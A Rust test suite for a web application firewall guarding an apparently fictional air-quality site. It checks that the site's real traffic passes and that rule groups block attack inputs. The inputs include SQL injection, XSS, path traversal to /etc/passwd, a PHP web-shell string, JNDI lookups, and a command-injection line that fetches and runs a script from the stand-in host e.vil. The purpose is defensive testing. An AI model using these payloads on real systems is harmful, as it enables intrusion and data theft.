//! Whole-engine tests: EcoCityHub's own traffic passes, every rule group blocks its
//! attacks and passes look-alike inputs, actions and exclusions behave as configured.

use crate::{Action, InspectedRequest, Waf, WafConfig};

fn waf() -> Waf {
    Waf::new(WafConfig::default()).expect("default rules compile")
}

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0";
const JWT: &str = "eyJhbGciOiJFUzI1NiIsImtpZCI6IjIwMjYtMTEtMjYiLCJ0eXAiOiJKV1QifQ.eyJzdWIiOiI3YjFlIiwiY29nbml0bzpncm91cHMiOlsiY2l0aXplbiJdLCJzY29wZSI6Im9wZW5pZCBlY29jaXR5aHViL2FwaSJ9.3vQ_ZkP1m-8aH0XkT2yLw9R4c5B6n7M8o9p0q1r2s3t4u5v6w7x8y9z0A1B2C3D4E5F6G7H8";

fn get(uri: &str) -> InspectedRequest {
    InspectedRequest::new("GET", uri)
        .header("User-Agent", BROWSER)
        .header(
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        )
        .header("Accept-Language", "en-GB,en;q=0.5")
        .header("Accept-Encoding", "gzip, deflate, br, zstd")
}

fn post(uri: &str, content_type: &str, body: &str) -> InspectedRequest {
    InspectedRequest::new("POST", uri)
        .header("User-Agent", BROWSER)
        .header("Content-Type", content_type)
        .header("Content-Length", &body.len().to_string())
        .header("Origin", "http://127.0.0.1:8080")
        .header("Referer", "http://127.0.0.1:8080/account")
        .body(body)
}

fn form(uri: &str, body: &str) -> InspectedRequest {
    post(uri, "application/x-www-form-urlencoded", body)
}

/// Requests the site's pages, API clients and devices really send.
fn legitimate() -> Vec<InspectedRequest> {
    let cookies = "ecch-session=v1.hT3kQ9xZ-p0Lr_8sWmYc2bNfA7eG5dJ4uK6iO1vE; ecch-csrf=Zk3pQ8r-T2w_Yx5cV9bN1mL4kJ7hG6fD0sA2qW3eR8t";
    let csv = "station,parameter,time,value,unit,flag\nmarylebone_road,no2,2026-11-26T09:00:00Z,21.5,ppb,valid\nmarylebone_road,pm25,2026-11-26T09:00:00Z,12,ug/m3,suspect\n";
    let ndjson = "{\"parameter\":\"no2\",\"time\":\"2026-11-26T09:00:00Z\",\"value\":21}\n{\"parameter\":\"o3\",\"time\":\"2026-11-26T10:00:00+01:00\",\"value\":-0.5,\"flag\":\"invalid\"}\n";
    vec![
        get("/"),
        get("/stations/marylebone_road").header("Cookie", cookies),
        get("/stations/beijing_us_embassy?parameter=pm25&range=30d"),
        get("/static/app.3f9a1c2b.css"),
        get("/static/map.7e21d0aa.js"),
        get("/healthz"),
        get("/api/v1/latest?station=marylebone_road"),
        get("/api/v1/stations?format=geojson&bbox=-0.5,51.3,0.3,51.7"),
        get("/api/v1/stations?parameter=pm25"),
        get("/api/v1/stations/marylebone_road/readings?parameter=no2&from=2004-12-01T00:00:00Z&to=2005-01-01T00:00:00Z&interval=1d"),
        get("/api/v1/stations/marylebone_road/readings?parameter=no2&from=2004-12-01T00%3A00%3A00%2B01%3A00&to=2005-01-01T00:00:00Z&interval=1h&agg=max&limit=5000&cursor=MjAwNC0xMi0wMlQwMDowMDowMFo"),
        get("/api/v1/stations/beijing_us_embassy/readings?parameter=pm25&from=2013-10-01T00:00:00Z&to=2014-01-01T00:00:00Z&format=csv"),
        get("/api/v1/stations/marylebone_road/forecast?parameter=no2"),
        get("/api/v1/stations/marylebone_road/anomalies?from=2004-01-01T00:00:00Z"),
        get("/api/v1/ml/models?station=marylebone_road&parameter=no2"),
        get("/api/v1/ml/models/7f3c2a10-9b8d-4e6f-a1b2-c3d4e5f60718/report/residuals.svg"),
        get("/api/openapi.json"),
        get("/.well-known/openid-configuration"),
        get("/.well-known/jwks.json"),
        get("/oauth2/authorize?response_type=code&client_id=ecocityhub-web&redirect_uri=http%3A%2F%2F127.0.0.1%3A1234%2Fcb&scope=openid%20ecocityhub%2Fapi&state=af0ifjsldkj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256"),
        get("/oauth2/authorize?response_type=code&client_id=ecocityhub-web&redirect_uri=http://localhost:8080/account/callback&scope=openid+email+profile&nonce=n-0S6_WzA2Mj"),
        get("/oauth2/idpresponse?state=Zk3pQ8rT2wYx5cV9bN1m&code=4%2F0AeanS0a1b2c3d4e5f-g6h7i8j9k0&scope=email+openid+https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email&authuser=0&prompt=none"),
        get("/oauth2/idpresponse?code=itJZGlxqwwwnFwHJxeO25O6Fufjrwn_7wmjVTxq0gg9&state=qgieCl9HWAO3vp01ES639twRZa2JEr_vr41nqd-YY7Y&iss=http%3A%2F%2F127.0.0.1%3A38471"),
        get("/account/callback?code=SplxlOBeZQQYbYS6WxSbIA&state=xyz"),
        get("/api/v1/me").header("Authorization", &format!("Bearer {JWT}")),
        get("/api/v1/admin/users?limit=50").header("Authorization", &format!("Bearer {JWT}")),
        InspectedRequest::new("OPTIONS", "/api/v1/latest").header("Origin", "https://map.example.org").header("Access-Control-Request-Method", "GET"),
        InspectedRequest::new("HEAD", "/"),
        form("/oauth2/authorize", "response_type=code&client_id=ecocityhub-web&redirect_uri=http%3A%2F%2F127.0.0.1%3A1234%2Fcb&email=ana%2Bair%40example.org&password=%27%20OR%201%3D1--%20%3Cscript%3E%24%28id%29%60%7C%7C&csrf=Zk3pQ8r-T2w_Yx5cV9bN1mL4kJ7hG6fD0sA2qW3eR8t"),
        form("/account", "csrf=Zk3pQ8r-T2w_Yx5cV9bN1mL4kJ7hG6fD0sA2qW3eR8t&email=jo%40city.example&password=Tr0ub4dor%263%3B+DROP+%7C%7C+%22x%22&next=%2Fstations%2Fmarylebone_road").header("Cookie", cookies),
        form("/account/password", "csrf=Zk3pQ8r&old_password=a%27b%22c%3C%3E%26%3B&new_password=..%2F..%2Fetc%2Fpasswd%21A1&confirm_password=..%2F..%2Fetc%2Fpasswd%21A1"),
        form("/account/resend-code", "csrf=Zk3pQ8r&email=someone%40example.org"),
        form("/account/delete", "csrf=Zk3pQ8r&confirm_email=someone%40example.org"),
        form("/admin/users/7b1e", "csrf=Zk3pQ8r&citizen=on&operator=on&active=on"),
        form("/admin/stations", "csrf=Zk3pQ8r&name=Marylebone+Road&area=London+%28Westminster%29&lat=51.52253&lon=-0.15461&label=Roadside+NO%E2%82%82+%26+PM%E2%82%82.%E2%82%85"),
        form("/admin/stations/marylebone_road/keys", "csrf=Zk3pQ8r&label=sensor+%232+on+the+north+side"),
        form("/admin/models/rollback", "csrf=Zk3pQ8r&station=marylebone_road&parameter=no2"),
        form("/oauth2/token", "grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=http%3A%2F%2F127.0.0.1%3A1234%2Fcb&client_id=ecocityhub-web&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"),
        form("/oauth2/token", "grant_type=refresh_token&refresh_token=rt.9f8e7d6c5b4a39281706f5e4d3c2b1a0&client_id=ecocityhub-web"),
        post("/api/v1/auth/sign-up", "application/json", r#"{"email":"ana@example.org","password":"S3cure; pass' OR '1'='1 <b>!"}"#),
        post("/api/v1/auth/sign-in", "application/json", r#"{"email":"ana@example.org","password":"$(whoami)`id`|| 1=1 -- ${jndi:x}"}"#),
        post("/api/v1/auth/confirm", "application/json", r#"{"email":"ana@example.org","code":"048213"}"#),
        post("/api/v1/auth/refresh", "application/json", r#"{"refresh_token":"rt.9f8e7d6c5b4a39281706f5e4d3c2b1a0"}"#),
        post("/api/v1/auth/change-password", "application/json", r#"{"old_password":"a\"b'c;--","new_password":"<New>Pass#1"}"#).header("Authorization", &format!("Bearer {JWT}")),
        post("/api/v1/readings", "application/json", r#"[{"parameter":"no2","time":"2026-11-26T09:00:00Z","value":21,"unit":"ppb"},{"parameter":"pm25","time":"2026-11-26T09:00:00.000+00:00","value":12.5,"unit":"ug/m3","flag":"suspect","station":"marylebone_road"}]"#).header("Authorization", "Bearer ech_dk_3f9a1c2b.q8Zt7RkLmN2pXv4sYw6uAe1oBc5dHf0g"),
        post("/api/v1/readings", "application/x-ndjson", ndjson).header("X-Api-Key", "ech_dk_3f9a1c2b.q8Zt7RkLmN2pXv4sYw6uAe1oBc5dHf0g"),
        post("/api/v1/readings", "text/csv", csv).header("X-Api-Key", "ech_dk_3f9a1c2b.q8Zt7RkLmN2pXv4sYw6uAe1oBc5dHf0g"),
        post("/api/v1/readings", "text/csv; charset=utf-8", "time,value,parameter\n2026-11-26T09:00:00Z,1e-3,co\n"),
        post("/api/v1/ml/jobs", "application/json", r#"{"station":"marylebone_road","parameter":"no2","promote":true}"#).header("Authorization", &format!("Bearer {JWT}")),
        InspectedRequest::new("POST", "/api/v1/ml/jobs/42/cancel").header("Content-Length", "0").header("Authorization", &format!("Bearer {JWT}")),
        InspectedRequest::new("PATCH", "/api/v1/admin/users/7b1e").header("Content-Type", "application/json").body(r#"{"roles":["operator","admin"]}"#),
        InspectedRequest::new("DELETE", "/api/v1/me").header("Authorization", &format!("Bearer {JWT}")),
        post("/api/v1/reports", "application/json", r#"{"station":"marylebone_road","title":"Smoke; select the bins","description":"Since Monday the bus depot at 10 Union St. burns rubbish -- I'd say from 6 to 8 p.m.; drop by & see (it's \"awful\"). Who runs exec meetings about this? 100% worse than 2024's."}"#),
    ]
}

#[test]
fn ecocityhubs_own_traffic_passes() {
    let waf = waf();
    let mut blocked = Vec::new();
    for req in legitimate() {
        let v = waf.inspect(&req);
        if v.is_blocked() {
            blocked.push(format!(
                "{} {} -> {:?}",
                req.method,
                req.uri,
                v.blocking_rule()
            ));
        }
    }
    assert!(
        blocked.is_empty(),
        "legitimate requests blocked:\n{}",
        blocked.join("\n")
    );
}

fn blocked_by(waf: &Waf, req: &InspectedRequest) -> Option<String> {
    waf.inspect(req).blocking_rule().map(|m| m.rule.clone())
}

/// A firewall that evaluates every rule and blocks nothing, to see which groups match.
fn counting() -> Waf {
    let mut c = WafConfig {
        default_action: Action::Count,
        ..WafConfig::default()
    };
    for action in c.rules.values_mut().filter(|a| **a != Action::Off) {
        *action = Action::Count;
    }
    Waf::new(c).unwrap()
}

/// Each attack is blocked, and a rule of `group` is among those that match it; each
/// look-alike passes.
fn assert_group(
    waf: &Waf,
    group: &str,
    attacks: &[InspectedRequest],
    lookalikes: &[InspectedRequest],
) {
    let all = counting();
    for a in attacks {
        let rule = blocked_by(waf, a);
        let groups: Vec<String> = all.inspect(a).matches.into_iter().map(|m| m.rule).collect();
        assert!(
            rule.is_some() && groups.iter().any(|r| r.starts_with(group)),
            "{group}: {} {:?} blocked by {rule:?}, matched {groups:?}",
            a.uri,
            String::from_utf8_lossy(&a.body)
        );
    }
    for b in lookalikes {
        assert_eq!(
            blocked_by(waf, b),
            None,
            "{group} look-alike {} {}",
            b.method,
            b.uri
        );
    }
}

fn q(value: &str) -> InspectedRequest {
    get(&format!(
        "/search?q={}",
        percent_encoding::utf8_percent_encode(value, percent_encoding::NON_ALPHANUMERIC)
    ))
}

#[test]
fn sql_injection() {
    assert_group(
        &waf(),
        "sqli",
        &[
            q("1' OR '1'='1"),
            q("-1 UNION SELECT username, password FROM users--"),
            q("1; DROP TABLE readings"),
            q("1 AND SLEEP(5)"),
            post(
                "/p",
                "application/json",
                r#"{"id":"1' union/**/select null,@@version#"}"#,
            ),
            get("/x").header("Cookie", "id=1%27%20or%201%3D1--"),
        ],
        &[
            q("O'Reilly"),
            q("select the best station"),
            q("rock and roll"),
            q("drop-off point 1-2"),
            q("35% cotton and 65% wool"),
        ],
    );
}

#[test]
fn cross_site_scripting() {
    assert_group(
        &waf(),
        "xss",
        &[
            q("<script>alert(1)</script>"),
            q("<img src=x onerror=alert(document.cookie)>"),
            q("javascript:alert(1)"),
            q("&lt;svg onload=alert(1)&gt;"),
            form(
                "/f",
                "x=%253Ciframe%2520src%253Djavascript%253Aalert(1)%253E",
            ),
        ],
        &[
            q("5 < 6 > 4"),
            q("Tom & Jerry <3"),
            q("the script of the film"),
        ],
    );
}

#[test]
fn path_traversal_and_files() {
    assert_group(
        &waf(),
        "lfi",
        &[
            q("../../../../etc/passwd"),
            get("/static/..%2f..%2f..%2fetc%2fshadow"),
            q("..\\..\\windows\\win.ini"),
            get("/.git/config"),
            get("/.env"),
        ],
        &[q("1.5..2.5 range"), q("see /stations/x and ./readme")],
    );
    let waf = waf();
    assert_eq!(
        blocked_by(&waf, &get("/backup.sql")).as_deref(),
        Some("protocol-restricted-extension")
    );
}

#[test]
fn command_injection() {
    assert_group(
        &waf(),
        "rce",
        &[
            q("; cat /etc/passwd"),
            q("| id"),
            q("$(curl http://e.vil/x.sh|sh)"),
            q("`whoami`"),
            form("/f", "host=127.0.0.1%26%26ping+-c+3+e.vil"),
        ],
        &[
            q("bash away in the gym"),
            q("ls 300 lexus"),
            q("time he came; more than that"),
        ],
    );
}

#[test]
fn php_java_and_node_injection() {
    let waf = waf();
    assert_group(
        &waf,
        "php",
        &[
            q("<?php system($_GET['c']); ?>"),
            q("php://filter/convert.base64-encode/resource=index"),
        ],
        &[q("what is php?")],
    );
    assert_group(
        &waf,
        "java",
        &[
            get("/").header("User-Agent", "${jndi:ldap://e.vil/a}"),
            q("${${lower:j}ndi:${lower:r}mi://e.vil/x}"),
            q("java.lang.Runtime"),
            post(
                "/p",
                "application/json",
                r#"{"@type":"org.apache.commons.collections.functors.InvokerTransformer"}"#,
            ),
        ],
        &[q("I drink java, not tea"), q("costs $5 (about 4 pounds)")],
    );
    assert_group(
        &waf,
        "node",
        &[
            post(
                "/p",
                "application/json",
                r#"{"__proto__":{"isAdmin":true}}"#,
            ),
            q("require('child_process').exec('id')"),
        ],
        &[q("the prototype of a constructor")],
    );
}

#[test]
fn ssrf_and_remote_inclusion() {
    let waf = waf();
    for a in [
        q("http://169.254.169.254/latest/meta-data/iam/"),
        q("http://2130706433:8080/admin"),
        q("http://[::ffff:7f00:1]/"),
        q("gopher://127.0.0.1:6379/_FLUSHALL"),
    ] {
        let rule = blocked_by(&waf, &a).unwrap_or_default();
        assert!(
            rule.starts_with("ssrf") || rule.starts_with("rfi"),
            "{} -> {rule}",
            a.uri
        );
    }
    assert_eq!(
        blocked_by(&waf, &q("https://www.example.org/page?x=1")),
        None
    );
}

#[test]
fn protocol_anomalies_and_sizes() {
    let waf = waf();
    let smuggling = InspectedRequest::new("POST", "/")
        .header("Content-Length", "4")
        .header("Transfer-Encoding", "chunked")
        .header("Content-Type", "text/plain")
        .body("0\r\n\r\n");
    assert_eq!(
        blocked_by(&waf, &smuggling).as_deref(),
        Some("protocol-smuggling")
    );
    let te = InspectedRequest::new("POST", "/").header("Transfer-Encoding", "chunked, identity");
    assert_eq!(blocked_by(&waf, &te).as_deref(), Some("protocol-smuggling"));
    let crlf = get("/%0d%0aSet-Cookie:%20x=1");
    assert!(blocked_by(&waf, &crlf).is_some_and(|r| r.starts_with("protocol")));
    let mut method = get("/");
    method.method = "TRACK".into();
    assert_eq!(
        blocked_by(&waf, &method).as_deref(),
        Some("protocol-method-not-allowed")
    );
    let mut version = get("/");
    version.version = "HTTP/1.7".into();
    assert_eq!(
        blocked_by(&waf, &version).as_deref(),
        Some("protocol-http-version")
    );
    let get_body = get("/").header("Content-Length", "5").body("hello");
    assert_eq!(
        blocked_by(&waf, &get_body).as_deref(),
        Some("protocol-get-with-body")
    );
    assert_eq!(
        blocked_by(&waf, &get("/a%zz")).as_deref(),
        Some("protocol-url-encoding")
    );
    let long = get(&format!("/?q={}", "a".repeat(9000)));
    assert_eq!(
        blocked_by(&waf, &long).as_deref(),
        Some("size-uri-too-long")
    );
    let many: String = (0..300)
        .map(|i| format!("a{i}=1"))
        .collect::<Vec<_>>()
        .join("&");
    assert_eq!(
        blocked_by(&waf, &get(&format!("/?{many}"))).as_deref(),
        Some("size-too-many-args")
    );
    let bad_type = post("/api/v1/readings", "application/x-evil", "x");
    assert_eq!(
        blocked_by(&waf, &bad_type).as_deref(),
        Some("protocol-content-type-not-allowed")
    );
    // An IP Host is counted, not blocked: that is how the site is reached on one machine.
    let ip_host = get("/").header("Host", "127.0.0.1:8080");
    let v = waf.inspect(&ip_host);
    assert!(
        !v.is_blocked()
            && v.matches
                .iter()
                .any(|m| m.rule == "protocol-host-is-ip" && m.action == Action::Count)
    );
}

#[test]
fn other_groups() {
    let waf = waf();
    let cases = [
        (q("{\"$where\": \"sleep(100)\"}"), "nosqli"),
        (q("*)(uid=*))(|(uid=*"), "ldap"),
        (q("{{7*7}}"), "ssti"),
        (q("<!--#exec cmd=\"ls\" -->"), "ssi"),
        (
            post(
                "/p",
                "application/xml",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
            "xxe",
        ),
        (
            form("/f", "to=a%40b.c%0d%0aRCPT+TO%3A+victim%40x.y"),
            "mail",
        ),
        (
            get("/").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            "bad-inputs",
        ),
    ];
    let all = counting();
    for (req, group) in cases {
        assert!(
            blocked_by(&waf, &req).is_some(),
            "{group}: {} not blocked",
            req.uri
        );
        let rules: Vec<String> = all
            .inspect(&req)
            .matches
            .into_iter()
            .map(|m| m.rule)
            .collect();
        assert!(
            rules.iter().any(|r| r.starts_with(group)),
            "{group}: {} {:?} -> {rules:?}",
            req.uri,
            String::from_utf8_lossy(&req.body)
        );
    }
}

#[test]
fn actions_per_rule_and_group() {
    let attack = q("<script>alert(1)</script>");
    let counting = Waf::new(WafConfig::from_toml("[groups]\nxss = \"count\"\n").unwrap()).unwrap();
    let v = counting.inspect(&attack);
    assert!(!v.is_blocked());
    assert!(
        v.matches
            .iter()
            .all(|m| m.group == "xss" && m.action == Action::Count)
            && !v.matches.is_empty()
    );
    let allow =
        Waf::new(WafConfig::from_toml("[rules]\nxss-941110 = \"allow\"\n").unwrap()).unwrap();
    assert_eq!(allow.inspect(&attack).action, Action::Allow);
    let off = Waf::new(WafConfig::from_toml("enabled = false").unwrap()).unwrap();
    assert!(!off.inspect(&attack).is_blocked());
    assert!(
        Waf::new(WafConfig::from_toml("[rules]\nno-such-rule = \"count\"\n").unwrap()).is_err()
    );
}

#[test]
fn exclusions_come_from_configuration() {
    let attack = form("/api/v1/notes", "text=1%27+OR+%271%27%3D%271&other=x");
    let waf = waf();
    assert!(blocked_by(&waf, &attack).is_some_and(|r| r.starts_with("sqli")));
    let extra = r#"
[[extra_exclusions]]
path = "/api/v1/notes"
methods = ["POST"]
rules = ["sqli"]
targets = ["arg:text"]
"#;
    let excluded = Waf::new(WafConfig::from_toml(extra).unwrap()).unwrap();
    assert_eq!(blocked_by(&excluded, &attack), None);
    let other_arg = form("/api/v1/notes", "other=1%27+OR+%271%27%3D%271");
    assert!(
        blocked_by(&excluded, &other_arg).is_some(),
        "only the named argument is excluded"
    );
    let other_route = form("/api/v1/other", "text=1%27+OR+%271%27%3D%271");
    assert!(
        blocked_by(&excluded, &other_route).is_some(),
        "only the named route is excluded"
    );
}

#[test]
fn oversize_bodies_follow_the_setting() {
    let mut req = post("/api/v1/readings", "application/json", "[]");
    req.body = vec![b' '; 100];
    req.body_complete = false;
    assert!(!waf().inspect(&req).is_blocked());
    let strict = Waf::new(WafConfig::from_toml("oversize = \"block\"").unwrap()).unwrap();
    assert_eq!(
        blocked_by(&strict, &req).as_deref(),
        Some("size-body-oversize")
    );
    // Past the limit nothing is inspected: an attack after 16 KiB of padding passes (as on AWS).
    let padded = format!(
        "a={}&b=%3Cscript%3Ealert(1)%3C/script%3E",
        "x".repeat(17000)
    );
    let waf = Waf::new(WafConfig::from_toml("[limits]\nmax_uri_bytes = 8192\nmax_args = 255\nmax_arg_name_bytes = 256\nmax_arg_bytes = 100000\nmax_headers = 100\nmax_header_bytes = 8192\n").unwrap()).unwrap();
    assert!(!waf.inspect(&form("/f", &padded)).is_blocked());
}

#[test]
fn samples_are_redacted_and_bounded() {
    let waf = Waf::new(WafConfig::from_toml("sample_size = 2").unwrap()).unwrap();
    for i in 0..3 {
        let req = q(&format!("<script>alert({i})</script>"))
            .header("Cookie", "ecch-session=secret")
            .header("Authorization", "Bearer secret");
        waf.inspect_recorded(&req);
    }
    waf.inspect_recorded(&get("/"));
    let samples = waf.samples();
    assert_eq!(samples.len(), 2);
    assert!(samples[1].uri.contains("alert%282%29"));
    for s in &samples {
        assert!(s.rule.rule.starts_with("xss"));
        for (name, value) in &s.headers {
            assert!(!value.contains("secret"), "{name} kept a secret");
        }
    }
}

#[test]
fn every_rule_has_a_stable_grouped_id() {
    let waf = waf();
    let mut seen = std::collections::HashSet::new();
    for r in waf.rules() {
        assert!(seen.insert(r.id.clone()), "duplicate id {}", r.id);
        assert!(r.id.starts_with(&format!("{}-", r.group)), "{}", r.id);
    }
    assert!(seen.len() > 100, "{}", seen.len());
}
